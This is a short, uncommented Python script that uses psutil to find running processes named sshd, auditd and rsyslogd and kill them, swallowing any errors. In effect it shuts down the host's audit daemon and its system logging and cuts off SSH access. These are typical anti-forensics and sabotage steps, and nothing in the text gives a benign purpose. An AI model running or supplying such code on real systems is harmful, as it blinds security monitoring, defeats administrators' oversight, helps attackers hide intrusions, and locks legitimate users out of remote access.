import psutil

for proc in psutil.process_iter(["name", "pid"]):
    if proc.info["name"] in ("sshd", "auditd", "rsyslogd"):
        try:
            proc.kill()
        except psutil.Error:
            pass
